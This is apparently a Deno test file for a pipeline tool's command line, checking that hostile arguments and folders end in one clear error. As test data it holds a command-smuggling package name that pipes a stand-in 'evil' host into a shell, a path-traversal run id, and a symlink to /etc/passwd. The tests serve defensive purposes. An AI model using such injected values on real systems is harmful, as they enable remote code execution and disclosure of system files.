/**
 * The command line under hostile input of the newer surfaces, as real subprocesses under their
 * documented permission flags: each ends in one clear message and exit 2 (or a warning), never a
 * stack trace, and touches nothing outside what it was given.
 *
 * @module
 */
import { join } from "node:path";
import { assertEquals, assertOk as assert, assertStringIncludes } from "./_deps.ts";
import { runCliProcess, tempDir } from "./_helpers.ts";
import { inst, writePart } from "../testing/run_parts.ts";
import { layoutDir } from "../lib/cache/manifest.ts";

const DEMO = "examples/mnist-digits-demo-pipeline/pipeline.yaml";

function noStack(stderr: string): void {
  assert(!/\n\s+at /.test(stderr), `a stack trace:\n${stderr}`);
}

Deno.test("cli.ts workflow refuses --apt, --cron and --param values that are not data", async (t) => {
  for (
    const [name, args, want] of [
      ["--apt with a shell word", ["--apt", "python3-x;curl evil|sh"], "Debian package name"],
      ["--apt with an option", ["--apt", "--allow-unauthenticated"], "Debian package name"],
      ["--cron with a newline", ["--cron", "0 0 * * *\non: push"], "cron"],
    ] as const
  ) {
    await t.step(name, async () => {
      const res = await runCliProcess(["workflow", DEMO, ...args]);
      assertEquals(res.code, 2, res.stderr);
      assertStringIncludes(res.stderr, want);
      noStack(res.stderr);
    });
  }
  await t.step("a --param holding an expression stays data", async () => {
    const res = await runCliProcess([
      "workflow",
      DEMO,
      "--param",
      "random_seed=${{ github.event.pull_request.title }}",
    ]);
    assertEquals(res.code, 0, res.stderr);
    assert(
      !/\$\{\{\s*github\.event\.pull_request\.title/.test(res.stdout),
      "the expression reached the workflow",
    );
  });
});

Deno.test("cli.ts merge and cache prune end hostile folders with one message", async (t) => {
  await using dir = await tempDir();
  await t.step("a part whose run id leads out of --out", async () => {
    const part = await writePart(join(dir.path, "p1", "r"), "x/../../victim", { a: "succeeded" });
    const res = await runCliProcess(["merge", part, "--out", join(dir.path, "runs")], {
      flags: ["--allow-read", "--allow-write"],
    });
    assertEquals(res.code, 2, res.stderr);
    assertStringIncludes(res.stderr, "is not a run id");
    noStack(res.stderr);
  });
  await t.step("a part whose spans.jsonl is garbage", async () => {
    const part = join(dir.path, "p2", "r1");
    await Deno.mkdir(part, { recursive: true });
    await Deno.writeTextFile(join(part, "spans.jsonl"), "\u0000\u00ff garbage\n{\n");
    const res = await runCliProcess(["merge", part, "--out", join(dir.path, "runs")], {
      flags: ["--allow-read", "--allow-write"],
    });
    assertEquals(res.code, 2, res.stderr);
    noStack(res.stderr);
  });
  await t.step("a part with a link is merged without it, with a warning", async () => {
    const part = await writePart(join(dir.path, "p3", "r1"), "r1", { a: "succeeded" }, {
      plan: [inst("a")],
    });
    await Deno.symlink("/etc/passwd", join(part, "tasks/a/attempt-1/artifacts/passwd"));
    const res = await runCliProcess(["merge", part, "--out", join(dir.path, "runs")], {
      flags: ["--allow-read", "--allow-write"],
    });
    assertEquals(res.code, 0, res.stderr);
    assertStringIncludes(res.stderr, "tasks/a/attempt-1/artifacts/passwd");
    assertEquals(
      await Deno.lstat(join(dir.path, "runs/r1/tasks/a/attempt-1/artifacts/passwd")).catch(() =>
        "absent"
      ),
      "absent",
    );
  });
  await t.step("cache prune --dir /dev/null", async () => {
    const res = await runCliProcess(["cache", "prune", "--dir", "/dev/null"], {
      flags: ["--allow-read=/dev/null", "--allow-write=/dev/null"],
    });
    assertEquals(res.code, 2, res.stderr);
    assertStringIncludes(res.stderr, "not a folder");
    noStack(res.stderr);
  });
  await t.step("cache prune keeps what a v1 link points to", async () => {
    const cache = join(dir.path, "cache");
    const other = join(dir.path, "other", "ab", "ab".repeat(32));
    await Deno.mkdir(other, { recursive: true });
    await Deno.mkdir(cache);
    await Deno.symlink(join(dir.path, "other"), layoutDir(cache));
    const res = await runCliProcess(["cache", "prune", "--dir", cache, "--keep-days", "0"], {
      flags: [`--allow-read=${cache}`, `--allow-write=${cache}`],
    });
    assertEquals(res.code, 0, res.stderr);
    assertStringIncludes(res.stderr, "symbolic link");
    assert((await Deno.stat(other)).isDirectory);
  });
});
